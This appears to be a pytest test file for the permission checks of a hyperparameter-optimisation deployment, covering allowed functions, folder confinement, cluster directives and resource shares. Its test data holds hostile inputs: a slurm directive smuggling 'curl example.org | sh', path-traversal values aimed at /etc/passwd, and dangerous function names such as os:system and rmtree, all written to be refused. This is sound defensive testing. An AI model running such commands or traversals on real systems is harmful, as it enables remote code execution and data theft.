"""What a person who may press Run may run."""

from __future__ import annotations

import dataclasses
import json
import re
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest

from hpo_core.home import Home
from hpo_core.model.errors import SpecError
from hpo_core.spec import StudySpec, load_spec
from hpo_core.spec.sections import ShareSpec
from hpo_core.study import Study
from hpo_flows.deployed.permissions import NotAllowedError, Permissions
from hpo_flows.deployed.study_runs import recorded_study
from hpo_flows.retraining_run import check_function
from tests.conftest import make_spec
from tests.deployed.conftest import STUDY
from tests.deployed.filled_forms import made

OWN = ["fit", "load", "build", "Net", "Callable", "later"]
FOREIGN = [
    "", "loads", "dumps", "delete", "system", "json", "inner", "os", "os.remove", "os.path.join", "files", "walk",
    "where", "erase", "fit_small", "fit_object", "fit_lambda", "fit_alias", "fit_inner", "fit_of_inner",
    "fit_either", "on_purpose", "clear", "clear_alias", "read", "erase_too", "either", "looked_up", "one_of",
    "typed", "circle", "run", "opened", "each", "late", "fit_method", "abort", "rmtree", "partial", "absent",
    "__builtins__", "Net.train", "inner.walk", "fit.__call__",
]  # fmt: skip


def test_only_study_files_inside_the_folder_are_offered(permissions: Permissions) -> None:
    assert permissions.study_files() == ["deep/a.yaml"]
    assert permissions.known_objectives() == ["models.net:fit"]
    assert permissions.load("deep/a.yaml").study == "inner"


@pytest.mark.parametrize(
    "name", ["../secret.yaml", "deep/../../secret.yaml", "link.yaml", "out/secret.yaml", "/etc/hostname.yaml", "..", ""]
)
def test_paths_do_not_escape_the_folder(permissions: Permissions, name: str) -> None:
    with pytest.raises(NotAllowedError):
        permissions.load(name)


def test_no_folder_no_file() -> None:
    with pytest.raises(NotAllowedError, match="HPO_STUDY_FOLDER is not set"):
        Permissions(("models",)).load("a.yaml")


def test_nothing_is_allowed_unless_said() -> None:
    permissions = Permissions.of_environment({})
    assert not permissions.allows_objective("os:system")
    with pytest.raises(NotAllowedError, match="Allowed: none"):
        made(permissions)


@pytest.mark.parametrize("name", OWN)
def test_what_an_allowed_module_defines_is_allowed(permissions: Permissions, name: str) -> None:
    assert permissions.allows_objective(f"models.net:{name}")


@pytest.mark.parametrize("name", FOREIGN)
def test_what_an_allowed_module_merely_imports_is_refused_everywhere(permissions: Permissions, name: str) -> None:
    """`data.load: models.net:remove` once deleted the partitions."""
    function = f"models.net:{name}"
    assert not permissions.allows_objective(function)
    spec = make_spec(objective="models.net:fit", data={"partitions": ["a"], "folder": str(permissions.folder)})
    assert spec.data is not None
    asked = [
        spec.model_copy(update={"objective": function}),
        spec.model_copy(update={"build": function}),
        spec.model_copy(update={"data": spec.data.model_copy(update={"load": function})}),
    ]
    permissions.check(spec)
    for one in asked:
        with pytest.raises(NotAllowedError, match=f"= '{re.escape(function)}' is not allowed here"):
            permissions.check(one)
    in_full = dataclasses.replace(permissions, objectives=("models", function))
    for one in asked:
        in_full.check(one)  # the operator's word


def test_a_refused_name_is_said_with_its_rule_and_cure(permissions: Permissions) -> None:
    for name in ("net:system", "net:fit_alias", "absent:fit"):
        module = f"models.{name.partition(':')[0]}"
        with pytest.raises(NotAllowedError, match=f"module {module} does not define it by def or class here") as found:
            permissions.check_function("objective", f"models.{name}")
        assert "add this name in full to HPO_ALLOWED_OBJECTIVES" in str(found.value)


def test_modules_are_looked_for_where_they_are_imported_from(permissions: Permissions, tmp_path: Path) -> None:
    other = tmp_path / "other" / "models"
    other.mkdir(parents=True)
    (other / "__init__.py").write_text("")
    (other / "net.py").write_text("from os import system as fit\ndef system(trial): ...\n")
    assert not permissions.allows_objective("models.net:fit", [str(other.parent)])
    assert permissions.allows_objective("models.net:system", [str(other.parent)])


@pytest.mark.parametrize("name", ["system", "walk"])
def test_an_evaluation_function_of_a_deployment_is_no_imported_one(
    permissions: Permissions, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setenv("HPO_ALLOWED_OBJECTIVES", "models")
    monkeypatch.setenv("HPO_IMPORT_FOLDERS", str(tmp_path))
    monkeypatch.setenv("PREFECT__RUNTIME__DEPLOYMENT__ID", str(uuid4()))
    check_function("models.net:fit")
    with pytest.raises(NotAllowedError, match=f"evaluate = 'models.net:{name}' is not allowed here"):
        check_function(f"models.net:{name}")


def test_settings_are_read_from_the_environment(tmp_path: Path) -> None:
    permissions = Permissions.of_environment(
        {"HPO_ALLOWED_OBJECTIVES": " a, b.c:f ,", "HPO_STUDY_FOLDER": str(tmp_path), "HPO_IMPORT_FOLDERS": "/x:/y"}
    )
    assert permissions == Permissions(("a", "b.c:f"), tmp_path.resolve(), (Path("/x"), Path("/y")))


def test_where_an_allowed_name_is_imported_from_is_no_choice_of_the_run(
    permissions: Permissions, tmp_path: Path
) -> None:
    assert permissions.folder is not None
    (permissions.folder / "deep" / "a.yaml").write_text(STUDY % "/var/tmp")
    with pytest.raises(NotAllowedError, match="pythonpath = '/var/tmp' is not allowed"):
        permissions.load("deep/a.yaml")


def test_a_file_that_names_no_folder_is_imported_from_beside_it(
    permissions: Permissions, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A run starts in an empty folder of its own, which no worker allows: every such file was refused."""
    assert permissions.folder is not None
    (permissions.folder / "plain.yaml").write_text(STUDY.partition("pythonpath")[0])
    monkeypatch.chdir(tmp_path_factory.mktemp("run"))
    assert permissions.load("plain.yaml").pythonpath == [str(permissions.folder)]
    monkeypatch.chdir(permissions.folder / "deep")
    assert permissions.load("plain.yaml").pythonpath == [str(permissions.folder), str(permissions.folder / "deep")]


def test_the_function_that_builds_the_model_needs_the_same_permission(permissions: Permissions) -> None:
    assert made(permissions).build is None
    assert made(permissions, build="models.net:build").build == "models.net:build"
    with pytest.raises(NotAllowedError, match="build = 'os:abort' is not allowed here"):
        made(permissions, build="os:abort")


@pytest.mark.parametrize(
    ("data", "says"),
    [
        ({"folder": "/etc"}, "data: /etc is not allowed here"),
        ({"folder": "../other"}, "other is not allowed here"),
        ({"folder": "linked"}, "linked is not allowed here"),
        ({"partitions": "/etc/manifest.json"}, "data: /etc/manifest.json is not allowed here"),
        ({"partitions": "[a]", "validation": "../manifest.json"}, "manifest.json is not allowed here"),
        ({"load": "os:listdir"}, "data.load = 'os:listdir' is not allowed here"),
    ],
)
def test_a_form_names_no_data_outside_the_folder_of_data(
    permissions: Permissions, tmp_path: Path, data: dict[str, str], says: str
) -> None:
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "linked").symlink_to("/etc")
    allowed = dataclasses.replace(permissions, data_folder=tmp_path / "data")
    made(allowed, data={"partitions": "part-*", "load": "models.net:load"})
    with pytest.raises(NotAllowedError, match=says):
        made(allowed, data={"partitions": "[a, b]"} | data)
    made(permissions, data={"partitions": "part-*"})  # beside the study files, where no folder is named
    with pytest.raises(NotAllowedError, match="none is set"):
        made(permissions, data={"partitions": "part-*", "folder": "/etc"})


def test_partitions_of_a_study_file_may_lie_beside_it(permissions: Permissions) -> None:
    assert permissions.folder is not None
    path = permissions.folder / "deep" / "a.yaml"
    path.write_text(path.read_text() + "\ndata: {partitions: part-*}\n")
    data = permissions.load("deep/a.yaml").data
    assert data is not None and data.folder == str(path.resolve().parent)
    path.write_text(path.read_text().replace("part-*", "part-*, folder: /srv"))
    with pytest.raises(NotAllowedError, match="/srv is not allowed here"):
        permissions.load("deep/a.yaml")


@pytest.mark.parametrize(
    ("changes", "setting", "value"),
    [
        (
            {"cluster": {"kind": "slurm", "directives": ["--wrap=curl example.org | sh"]}},
            "HPO_ALLOWED_CLUSTERS",
            "slurm",
        ),
        ({"checkpoints": {"folder": "file:///etc"}}, "HPO_ALLOWED_CHECKPOINTS", "file:///etc"),
    ],
)
def test_clusters_that_run_shell_lines_and_places_elsewhere_must_be_named(
    permissions: Permissions, changes: dict[str, Any], setting: str, value: str
) -> None:
    spec = StudySpec.from_plain(permissions.load("deep/a.yaml").plain() | changes)
    environment = {"HPO_ALLOWED_OBJECTIVES": "models", "HPO_IMPORT_FOLDERS": str(permissions.import_folders[0])}
    with pytest.raises(NotAllowedError, match=setting):
        Permissions.of_environment(environment).check(spec)
    Permissions.of_environment(environment | {setting: value}).check(spec)


def test_data_lies_in_its_folder_or_is_a_name(tmp_path: Path) -> None:
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "may.npz").touch()
    (tmp_path / "secret").touch()
    (folder / "link").symlink_to(tmp_path / "secret")
    permissions = Permissions.of_environment({"HPO_DATA_FOLDER": str(folder)})
    assert permissions.data_of(str(folder / "may.npz")) == permissions.data_of("may.npz") == str(folder / "may.npz")
    assert permissions.data_of("period-3") == "period-3"
    for bad in (str(tmp_path / "secret"), f"{folder}/../secret", str(folder / "link"), "..", "/etc/passwd"):
        with pytest.raises(NotAllowedError, match="no file of the deployment's folder of data"):
            permissions.data_of(bad)
    with pytest.raises(NotAllowedError, match="no folder is set"):
        Permissions().data_of("/etc/passwd")


@pytest.mark.parametrize("kind", ["form", "file", "ordinal", "recorded", "warm_start", "constant", "list", "group"])
def test_a_parameter_called_data_names_what_lies_in_the_folder_of_data(permissions: Permissions, kind: str) -> None:
    """Training functions open it: through every door that a study comes by."""
    assert permissions.folder is not None
    data = permissions.folder.parent / "data"
    data.mkdir()
    (data / "may.npz").touch()
    open_to = dataclasses.replace(permissions, data_folder=data)

    def checked(permissions: Permissions, value: str) -> None:
        named = {"type": "ordinal" if kind == "ordinal" else "categorical", "choices": [value, "period-3"]}
        given = permissions.load("deep/a.yaml").plain()
        x = given["space"]["x"]
        if kind == "form":
            made(permissions, space={"categorical": [{"name": "data", "choices": ["period-3", value]}]})
            return
        if kind in ("file", "ordinal"):
            given["space"] = {"x": x, "data": named}
        elif kind == "recorded":
            params = [{"x": 0.5, "data": "period-3"}, {"x": 0.5, "data": value}]
            given["search"] = {"method": "recorded", "source": "a", "study_record": {"grants": [], "params": params}}
        elif kind == "group":
            given["space"] = {"x": x, "data": {"path": named}}
        elif kind == "constant":
            given["constants"] = {"data": [value, "period-3"]}
        elif kind == "list":
            given["space"] = {"x": x, "data": named | {"choices": ["period-3", ["period-3", value]]}}
        else:
            given["warm_start"] = {"studies": ["a"], "proposals": [{"x": 0.5, "data": value}]}
        permissions.check(StudySpec.from_plain(given))

    for good in ("period-1", "may.npz", str(data / "may.npz"), str(data / "removed-since.npz")):
        checked(open_to, good)
    checked(permissions, "period-1")
    for bad in ("/etc/passwd", f"{data}/../../secret.yaml", "../secret.yaml", str(data.parent)):
        with pytest.raises(NotAllowedError, match="no file of the deployment's folder of data"):
            checked(open_to, bad)
    with pytest.raises(NotAllowedError, match="no folder is set"):
        checked(permissions, str(data / "may.npz"))


MOST = "{weight: 2, priority: 1}"


def bounded(permissions: Permissions, most: str = MOST) -> Permissions:
    read = Permissions.of_environment({"HPO_ALLOWED_SHARE": most})
    return dataclasses.replace(permissions, share=read.share, clusters=("tls://a:1",))


@pytest.mark.parametrize(
    ("share", "at_address", "most", "says"),
    [
        ({"weight": 2.5}, True, MOST, "share.weight = 2.5 is more than 2, which is not allowed here"),
        ({"priority": 2}, True, MOST, "share.priority = 2 is more than 1"),
        ({"pool": "cpu", "weight": 3}, False, MOST, "share.weight = 3 is more than 2"),
        (None, True, MOST, "share is absent, so the study would take every slot"),
        ({"pool": "mine"}, True, MOST, "share.pool = 'mine' leaves nothing to the other studies"),
        ({"pool": "mine"}, True, "{pool: gpu}", "the pool is 'gpu'"),
        ({"weight": 2}, True, "true", "share.weight = 2 is more than 1"),
    ],
)
def test_a_deployment_claims_no_more_of_a_pool_than_its_operator_allows(
    permissions: Permissions,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    share: dict[str, Any] | None,
    at_address: bool,
    most: str,
    says: str,
) -> None:
    """By form, study file and record alike; a schedule and the API hand the form's parameters in."""
    limited = bounded(permissions, most)
    cluster: dict[str, Any] = {"kind": "address", "address": "tls://a:1"} if at_address else {"kind": "local"}
    assert limited.folder is not None
    file = limited.folder / "shared.yaml"
    file.write_text((STUDY % tmp_path) + f"\nshare: {json.dumps(share)}\ncluster: {json.dumps(cluster)}\n")
    with pytest.raises(NotAllowedError, match=re.escape(says)):
        limited.load("shared.yaml")
    chosen = {"address": {"address": "tls://a:1"}} if at_address else {"local": {"workers": 2}}
    with pytest.raises(NotAllowedError, match=re.escape(says)):
        made(limited, cluster=chosen, share=share)
    monkeypatch.setenv("HPO_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("HPO_ALLOWED_OBJECTIVES", "models")
    monkeypatch.setenv("HPO_IMPORT_FOLDERS", str(tmp_path))
    monkeypatch.setenv("HPO_ALLOWED_CLUSTERS", "tls://a:1")
    monkeypatch.setenv("HPO_ALLOWED_SHARE", most)
    journal = Home().open_journal()
    Study.create(load_spec(file), journal)
    journal.close()
    with pytest.raises(NotAllowedError, match=re.escape(says)):
        recorded_study("inner")
    assert permissions.share is None
    dataclasses.replace(permissions, clusters=("tls://a:1",)).load("shared.yaml")  # without a bound all is allowed


@pytest.mark.parametrize(
    ("share", "at_address"),
    [
        ({"weight": 2, "priority": 1}, True),
        ({"weight": 0.5, "priority": -3}, True),
        ({"pool": "cpu"}, False),
        (None, False),
    ],
)
def test_a_claim_within_the_bound_is_taken(
    permissions: Permissions, share: dict[str, Any] | None, at_address: bool
) -> None:
    chosen = {"address": {"address": "tls://a:1"}} if at_address else {"local": {"workers": 2}}
    spec = made(bounded(permissions), cluster=chosen, share=share)
    assert spec.share == (None if share is None else ShareSpec(**share))


@pytest.mark.parametrize("text", ["{weight: heavy}", "{wieght: 2}", "5", "{", "false", "[]"])
def test_a_bound_that_cannot_be_read_is_refused_with_an_example(text: str) -> None:
    """Else a misspelled one would allow everything."""
    with pytest.raises(SpecError, match="HPO_ALLOWED_SHARE = .* write it as share of a study file, such as"):
        Permissions.of_environment({"HPO_ALLOWED_SHARE": text})
